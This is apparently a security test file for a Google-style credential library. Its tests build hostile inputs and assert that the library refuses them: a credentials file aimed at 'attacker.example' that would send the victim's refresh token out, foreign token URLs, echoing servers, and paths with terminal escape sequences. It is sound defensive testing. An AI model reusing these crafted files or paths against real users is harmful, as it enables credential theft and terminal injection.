// The trust boundary (issue 24), played by the attacker with real files, real processes and real
// servers on loopback: a credentials file for another universe that reads the victim's own ADC
// file as its "subject token"; foreign Resource Manager, token-info and revoke URLs; subject-token
// URLs that redirect, repeat or never end; a FIFO as subject token; STS and IAM servers that echo
// the request in every encoding; configurations that would share a cached token; escape
// sequences in paths. The other classes (planted and FIFO settings, a secret pasted in the
// arguments, settings written into another user's directory, impossible login destinations) are in
// test/reliability/trust-local.test.ts, test/cli/usage.test.ts and test/cli/login.test.ts.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import { fileURLToPath } from "node:url";
import { DEFAULT_WORKFORCE_AUDIENCE, DEFAULT_WORKLOAD_AUDIENCE } from "cred-auth/emulator";
import { testCredentialsFile, withEmulator, workloadFileJson } from "../support/emulator.ts";
import { tempDir } from "../support/files.ts";
import { CLI, ROOT, echoes, isolatedEnv, runNode, type CliResult } from "./support.ts";

const emu = await withEmulator();
const RECORDER = fileURLToPath(new URL("../support/net-recorder.cjs", import.meta.url));
const CLOUD = "https://www.googleapis.com/auth/cloud-platform";
/** A control character other than the newline that ends each line. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding raw control characters is this pattern's whole job
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** Google-shaped secrets, with the `/`, `+` and `=` that make each encoding differ. */
const VICTIM_REFRESH = "1//0gVictimRefresh/Token+Only=Hers";
const CLIENT_SECRET = "GOCSPX-Client/Secret+Val=ue";
const SUBJECT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaSJ9+/=.c2lnbmF0dXJl/+=";

function assertNoSecret(text: string, secrets: readonly string[], what: string): void {
  for (const secret of secrets)
    for (const form of echoes(secret))
      assert.ok(!text.includes(form), `${what}: a form of a secret leaked (${form.slice(0, 12)}...): ${text}`);
}

/** A loopback server recording each request's method, path, headers and body. */
async function server(
  t: TestContext,
  answer: (req: IncomingMessage, body: string, res: ServerResponse) => void,
): Promise<{
  url: string;
  host: string;
  requests: Array<{ method: string; path: string; body: string; auth?: string }>;
}> {
  const requests: Array<{ method: string; path: string; body: string; auth?: string }> = [];
  const srv: Server = createServer((req, res) => {
    let body = "";
    req.setEncoding("utf8").on("data", (c: string) => (body += c));
    req.on("end", () => {
      requests.push({
        method: req.method ?? "",
        path: req.url ?? "",
        body,
        ...(req.headers.authorization ? { auth: req.headers.authorization } : {}),
      });
      answer(req, body, res);
    });
  });
  await new Promise<void>((resolve) => srv.listen(0, "127.0.0.1", resolve));
  t.after(() => new Promise<void>((resolve) => srv.close(() => resolve())));
  const { port } = srv.address() as { port: number };
  return { url: `http://127.0.0.1:${port}`, host: `127.0.0.1:${port}`, requests };
}

/** Every secret a request carried (form fields and the Authorization header, Basic decoded), in every encoding. */
function echoOf(body: string, auth: string | undefined): string {
  const values = [...new URLSearchParams(body).values()];
  if (auth) {
    values.push(auth, auth.replace(/^\S+\s+/, ""));
    const decoded = Buffer.from(auth.replace(/^\S+\s+/, ""), "base64").toString("utf8");
    if (decoded.includes(":")) values.push(decoded.slice(decoded.indexOf(":") + 1));
  }
  return values.flatMap(echoes).join(" | ");
}

/** Runs `node ARGV` with the network recorder preloaded: its result and every connection it tried. */
async function recorded(
  t: TestContext,
  argv: string[],
  env: NodeJS.ProcessEnv,
): Promise<CliResult & { connections: string[] }> {
  const record = join(tempDir(t, "cred-auth-net-"), "net.json");
  const r = await runNode(["--require", RECORDER, ...argv], {
    env: { ...env, NET_RECORD_TO: record },
    killAfterMs: 30_000,
  });
  return { ...r, connections: JSON.parse(readFileSync(record, "utf8")) as string[] };
}

/** `cred-auth print-token PATH`, recorded. */
function printToken(t: TestContext, path: string, env: NodeJS.ProcessEnv) {
  return recorded(t, [CLI, "print-token", path], env);
}

/** default() with GOOGLE_APPLICATION_CREDENTIALS=path in a child, then a token and the project id; recorded. */
function defaultWith(t: TestContext, path: string, env: NodeJS.ProcessEnv) {
  const script = `
    const credAuth = await import(${JSON.stringify(join(ROOT, "dist", "index.mjs"))});
    try {
      const [credentials] = await credAuth.default([${JSON.stringify(CLOUD)}], { hosted: false });
      const { token } = await credentials.getAccessToken();
      let project = "(none)";
      try { project = await credentials.getProjectId(); } catch (e) { project = "error " + e.name + ": " + e.message; }
      console.log("TOKEN " + token.slice(0, 9) + " PROJECT " + project);
    } catch (e) {
      const causes = [];
      for (let c = e.cause, i = 0; c && i < 6; c = c.cause, i++) causes.push(String(c.message) + " " + JSON.stringify(c.response?.data ?? null));
      console.log("ERROR " + e.name + " " + e.code + " " + e.message + " CAUSES " + causes.join(" / "));
    }`;
  return recorded(t, ["--input-type=module", "-e", script], { ...env, GOOGLE_APPLICATION_CREDENTIALS: path });
}

/** The victim's home: their own ADC file with a Google-shaped refresh token, and no emulator. */
function victimHome(t: TestContext): { dir: string; adc: string; env: NodeJS.ProcessEnv } {
  const dir = tempDir(t, "cred-auth-victim-");
  const adc = join(dir, "gcloud", "application_default_credentials.json");
  mkdirSync(join(dir, "gcloud"), { recursive: true, mode: 0o700 });
  writeFileSync(
    adc,
    JSON.stringify({
      type: "authorized_user",
      client_id: "764086051850-6qr4p6gpi6hn506pt8ejuq83di341hur.apps.googleusercontent.com",
      client_secret: "d-FL95Q19q7MQmFpd7hHD0Ty",
      refresh_token: VICTIM_REFRESH,
    }),
    { mode: 0o600 },
  );
  return { dir, adc, env: isolatedEnv(dir, { CRED_AUTH_TOKEN_CACHE: join(dir, "tokens") }) };
}

test("high: an external_account file for another universe reading the victim's ADC file sends nothing anywhere", async (t) => {
  const victim = victimHome(t);
  const attack = join(victim.dir, "downloaded-wif.json");
  writeFileSync(
    attack,
    JSON.stringify({
      type: "external_account",
      universe_domain: "attacker.example",
      audience: "//iam.attacker.example/projects/1/locations/global/workloadIdentityPools/p/providers/q",
      subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
      token_url: "https://sts.attacker.example/v1/token",
      credential_source: { file: victim.adc, format: { type: "json", subject_token_field_name: "refresh_token" } },
    }),
  );
  const refusal =
    /Credentials file ".*downloaded-wif\.json" is for the universe "attacker\.example", but cred-auth trusts "googleapis\.com" \(the default\); to trust "attacker\.example", set GOOGLE_CLOUD_UNIVERSE_DOMAIN=attacker\.example/;
  const cli = await printToken(t, attack, victim.env);
  assert.equal(cli.code, 1, cli.stderr);
  assert.match(cli.stderr, refusal);
  assert.deepEqual(cli.connections, [], "print-token tried no connection at all");
  assertNoSecret(cli.stdout + cli.stderr, [VICTIM_REFRESH], "print-token");

  const lib = await defaultWith(t, attack, victim.env);
  assert.match(lib.stdout, /^ERROR CredCredentialsError ERR_UNTRUSTED_UNIVERSE /);
  assert.match(lib.stdout, refusal);
  assert.deepEqual(lib.connections, [], "default() tried no connection at all (no sign-in either)");
  assertNoSecret(lib.stdout + lib.stderr, [VICTIM_REFRESH], "default()");

  // The same file in the universe it names, with only its token_url foreign, is refused just the same.
  const sameUniverse = join(victim.dir, "foreign-sts.json");
  writeFileSync(
    sameUniverse,
    JSON.stringify({ ...JSON.parse(readFileSync(attack, "utf8")), universe_domain: undefined }),
  );
  const foreign = await printToken(t, sameUniverse, victim.env);
  assert.equal(foreign.code, 1);
  assert.match(
    foreign.stderr,
    /names "https:\/\/sts\.attacker\.example" as its token_url, not Google's Security Token Service/,
  );
  assert.deepEqual(foreign.connections, []);
});

test("the universe is the user's word: GOOGLE_CLOUD_UNIVERSE_DOMAIN trusts that universe's services, and no other", async (t) => {
  const victim = victimHome(t);
  const file = join(victim.dir, "tpc.json");
  writeFileSync(
    file,
    JSON.stringify({
      ...workloadFileJson(join(victim.dir, "subject.jwt")),
      universe_domain: "tpc.example",
      token_url: undefined,
    }),
  );
  writeFileSync(join(victim.dir, "subject.jwt"), SUBJECT);
  const chosen = await printToken(t, file, { ...victim.env, GOOGLE_CLOUD_UNIVERSE_DOMAIN: "tpc.example" });
  // Judged and sent to the chosen universe's STS (which does not exist here: it cannot be reached).
  assert.equal(chosen.code, 3, chosen.stderr);
  assert.match(chosen.stderr, /Google's Security Token Service could not be reached/);
  assert.ok(chosen.connections.includes("sts.tpc.example:443"), chosen.connections.join(" "));
  const refused = await printToken(t, file, victim.env);
  assert.match(refused.stderr, /is for the universe "tpc\.example", but cred-auth trusts "googleapis\.com"/);
  assert.deepEqual(refused.connections, []);
});

test("default() gives google-auth-library no unchecked field: a foreign cloud_resource_manager_url or token_info_url is refused", async (t) => {
  const home = tempDir(t);
  const subject = join(home, "subject.jwt");
  writeFileSync(subject, emu.issueSubjectToken({ audience: DEFAULT_WORKLOAD_AUDIENCE }));
  const env = isolatedEnv(home, { CRED_AUTH_EMULATOR_HOST: emu.host });
  const attacker = await server(t, (_req, _body, res) => res.writeHead(200).end('{"projectNumber":"1"}'));
  for (const [field, url] of [
    ["cloud_resource_manager_url", "https://cloudresourcemanager.attacker.example/v1/projects/"],
    ["cloud_resource_manager_url", `${attacker.url.replace("http:", "https:")}/v1/projects/`],
    ["token_info_url", "https://sts.attacker.example/v1/introspect"],
  ] as const) {
    const path = join(home, `${field}.json`);
    writeFileSync(path, JSON.stringify(workloadFileJson(subject, { [field]: url })));
    const before = emu.stats().tokenRequests;
    const r = await defaultWith(t, path, env);
    assert.match(
      r.stdout,
      new RegExp(`^ERROR CredCredentialsError ERR_UNSAFE_TOKEN_URL .* as its ${field}, `),
      r.stdout + r.stderr,
    );
    assert.equal(emu.stats().tokenRequests, before, `${field}: not even STS was asked`);
    assert.ok(!r.connections.some((c) => c.includes("attacker")), r.connections.join(" "));
    const cli = await printToken(t, path, env);
    assert.equal(cli.code, 1, `print-token refuses the same file: ${cli.stderr}`);
  }
  assert.equal(attacker.requests.length, 0, "the attacker's server heard nothing");
  // The checked default: getProjectId() asks Google's Resource Manager (here the emulator), with no foreign URL.
  const fine = join(home, "fine.json");
  writeFileSync(fine, JSON.stringify(workloadFileJson(subject, { quota_project_id: "wif-project" })));
  const ok = await defaultWith(t, fine, env);
  assert.match(ok.stdout, /^TOKEN ya29\./, ok.stdout + ok.stderr);
});

test("subject-token URLs: fetched once per token, no redirect followed, bounded in size; the answer goes only to the judged STS", async (t) => {
  const home = tempDir(t);
  const env = isolatedEnv(home, { CRED_AUTH_EMULATOR_HOST: emu.host, CRED_AUTH_TOKEN_CACHE: join(home, "tokens") });
  const elsewhere = await server(t, (_req, _body, res) => res.writeHead(200).end(SUBJECT));
  const idp = await server(t, (req, _body, res) => {
    if (req.url === "/redirect") res.writeHead(302, { Location: `${elsewhere.url}/token` }).end();
    else if (req.url === "/huge") {
      res.writeHead(200);
      const chunk = "x".repeat(64 * 1024);
      for (let i = 0; i < 20; i++) res.write(chunk);
      res.end();
    } else res.writeHead(200).end(emu.issueSubjectToken({ audience: DEFAULT_WORKLOAD_AUDIENCE }));
  });
  const file = (name: string, path: string) => {
    const p = join(home, `${name}.json`);
    writeFileSync(
      p,
      JSON.stringify({ ...workloadFileJson("unused"), credential_source: { url: `${idp.url}${path}` } }),
    );
    return p;
  };
  const once = await printToken(t, file("once", "/token"), env);
  assert.equal(once.code, 0, once.stderr);
  assert.equal(idp.requests.filter((r) => r.path === "/token").length, 1, "one fetch for the key and the exchange");

  const redirected = await printToken(t, file("redirect", "/redirect"), env);
  assert.equal(redirected.code, 1, redirected.stderr);
  assert.match(
    redirected.stderr,
    /The subject-token URL http:\/\/127\.0\.0\.1:\d+\/redirect answered with a redirect \(HTTP 302\), which is never followed\./,
  );
  assert.equal(elsewhere.requests.length, 0, "the redirect's target heard nothing");

  const huge = await printToken(t, file("huge", "/huge"), env);
  assert.equal(huge.code, 1, huge.stderr);
  assert.match(huge.stderr, /answered more than 256 KiB, which is no subject token/);
});

test("a FIFO as credential_source.file fails at once in print-token and default(), never hangs", async (t) => {
  const home = tempDir(t);
  const fifo = join(home, "token.fifo");
  execFileSync("mkfifo", [fifo]);
  const path = join(home, "fifo.json");
  writeFileSync(path, JSON.stringify(workloadFileJson(fifo)));
  const env = isolatedEnv(home, { CRED_AUTH_EMULATOR_HOST: emu.host });
  const cli = await printToken(t, path, env);
  assert.equal(cli.signal, null, "print-token did not hang");
  assert.equal(cli.code, 1);
  assert.match(
    cli.stderr,
    /^cred-auth: The subject-token file ".*token\.fifo" is not a regular file \(ENOTFILE\); check that it is written there\. \(ERR_SUBJECT_TOKEN_UNREADABLE\)\n$/,
  );
  const lib = await defaultWith(t, path, env);
  assert.equal(lib.signal, null, "default() did not hang");
  // default() goes on to a sign-in (the original's order), which ends at once here (no input);
  // why the file was passed over is said before it, as a warning on stderr.
  assert.match(lib.stdout, /^ERROR /);
  assert.match(lib.stderr, /CRED_AUTH_ADC.*The subject-token file ".*token\.fifo" is not a regular file \(ENOTFILE\)/);
});

test("echoing STS servers: no form of the subject token, refresh token or client secret comes back, in print-token or default()", async (t) => {
  const home = tempDir(t);
  const sts = await server(t, (req, body, res) => {
    const echo = echoOf(body, req.headers.authorization);
    res
      .writeHead(400, { "Content-Type": "application/json" })
      .end(JSON.stringify({ error: "invalid_request", error_description: `you sent: ${echo}` }));
  });
  // The emulator variable points at the echoing server: loopback is then allowed, as for the emulator.
  const env = isolatedEnv(home, { CRED_AUTH_EMULATOR_HOST: sts.host, CRED_AUTH_TOKEN_CACHE: join(home, "tokens") });
  const subjectFile = join(home, "subject.jwt");
  writeFileSync(subjectFile, SUBJECT);
  const wif = join(home, "wif.json");
  writeFileSync(wif, JSON.stringify(workloadFileJson(subjectFile, { token_url: `${sts.url}/v1/token` })));
  const workforce = join(home, "workforce.json");
  writeFileSync(
    workforce,
    JSON.stringify({
      type: "external_account_authorized_user",
      audience: DEFAULT_WORKFORCE_AUDIENCE,
      client_id: "workforce-client",
      client_secret: CLIENT_SECRET,
      refresh_token: VICTIM_REFRESH,
      token_url: `${sts.url}/v1/oauthtoken`,
    }),
  );
  for (const path of [wif, workforce]) {
    const cli = await printToken(t, path, env);
    assert.equal(cli.code, 1, cli.stderr);
    assert.match(cli.stderr, /refused the token request: invalid_request: you sent: /);
    assertNoSecret(cli.stderr + cli.stdout, [SUBJECT, VICTIM_REFRESH, CLIENT_SECRET], `print-token ${path}`);
    const lib = await defaultWith(t, path, env);
    assert.match(lib.stdout, /^ERROR /, lib.stdout);
    assertNoSecret(lib.stdout + lib.stderr, [SUBJECT, VICTIM_REFRESH, CLIENT_SECRET], `default() ${path}`);
  }
  assert.ok(
    sts.requests.some((r) => r.body.includes("subject_token=")),
    "the echoing STS was asked",
  );
  assert.ok(
    sts.requests.some((r) => r.auth?.startsWith("Basic ")),
    "with the client's Basic credentials",
  );
});

test("an echoing IAM Credentials API: the caller's access token never comes back, in print-token or default()", async (t) => {
  const home = tempDir(t);
  const iam = await server(t, (req, _body, res) => {
    const echo = echoOf("", req.headers.authorization);
    res
      .writeHead(403, { "Content-Type": "application/json" })
      .end(JSON.stringify({ error: { code: 403, status: "PERMISSION_DENIED", message: `caller ${echo}` } }));
  });
  // Plain http on loopback goes only to the emulator's own host and port: the echoing API stands in for it
  // (the source's token_uri names the real emulator, a file's own token URL).
  const env = isolatedEnv(home, {
    CRED_AUTH_EMULATOR_HOST: new URL(iam.url).host,
    CRED_AUTH_TOKEN_CACHE: join(home, "tokens"),
  });
  const source = JSON.parse(
    readFileSync(await testCredentialsFile(emu, join(home, "user"), { scopes: [CLOUD] }), "utf8"),
  );
  const path = join(home, "impersonated.json");
  writeFileSync(
    path,
    JSON.stringify({
      type: "impersonated_service_account",
      service_account_impersonation_url: `${iam.url}/v1/projects/-/serviceAccounts/sa@p.iam.gserviceaccount.com:generateAccessToken`,
      source_credentials: source,
      delegates: [],
    }),
  );
  const cli = await printToken(t, path, env);
  assert.equal(cli.code, 1, cli.stderr);
  assert.match(cli.stderr, /was denied: .* Google said \(PERMISSION_DENIED\): caller /);
  const lib = await defaultWith(t, path, env);
  assert.match(lib.stdout, /^ERROR CredCredentialsError ERR_IMPERSONATION_DENIED /, lib.stdout);
  const sent = iam.requests.map((r) => r.auth?.replace(/^Bearer /, "") ?? "").filter(Boolean);
  assert.equal(sent.length, 2, "both asked the echoing API with a real access token");
  assertNoSecret(cli.stderr + cli.stdout + lib.stdout + lib.stderr, sent, "IAM echo");
});

test("colliding configurations: files that differ only in subject-token type or workforce user project get their own tokens", async (t) => {
  const home = tempDir(t);
  const env = isolatedEnv(home, { CRED_AUTH_EMULATOR_HOST: emu.host, CRED_AUTH_TOKEN_CACHE: join(home, "tokens") });
  const subject = join(home, "subject.jwt");
  writeFileSync(subject, emu.issueSubjectToken({ audience: DEFAULT_WORKFORCE_AUDIENCE }));
  const variants = [
    { workforce_pool_user_project: "project-a" },
    { workforce_pool_user_project: "project-b" },
    { workforce_pool_user_project: "project-a", subject_token_type: "urn:ietf:params:oauth:token-type:id_token" },
  ];
  const printed: string[] = [];
  for (const [i, extra] of variants.entries()) {
    const path = join(home, `v${i}.json`);
    writeFileSync(path, JSON.stringify(workloadFileJson(subject, { audience: DEFAULT_WORKFORCE_AUDIENCE, ...extra })));
    const before = emu.stats().tokenRequests;
    const r = await printToken(t, path, env);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(emu.stats().tokenRequests, before + 1, `variant ${i} asked STS itself, no other's cached token`);
    printed.push(r.stdout);
  }
  assert.equal(new Set(printed).size, variants.length, "three configurations, three tokens");
});

test("escape sequences in paths reach no terminal raw: a subject-token path, a credentials path", async (t) => {
  const home = tempDir(t);
  const env = isolatedEnv(home, { CRED_AUTH_EMULATOR_HOST: emu.host });
  const evilPath = join(home, "\u001b]0;owned\u0007\u001b[2J\u009b31m.jwt");
  const path = join(home, "wif.json");
  writeFileSync(path, JSON.stringify(workloadFileJson(evilPath)));
  for (const target of [path, join(home, "\u001b]8;;https://evil.example\u0007creds.json")]) {
    const r = await printToken(t, target, env);
    assert.equal(r.code, 1);
    assert.ok(!RAW_CONTROL.test(r.stderr), `raw control character: ${JSON.stringify(r.stderr)}`);
    assert.match(r.stderr, /\\u001b\]|\\x1b\]/, "shown escaped");
  }
});
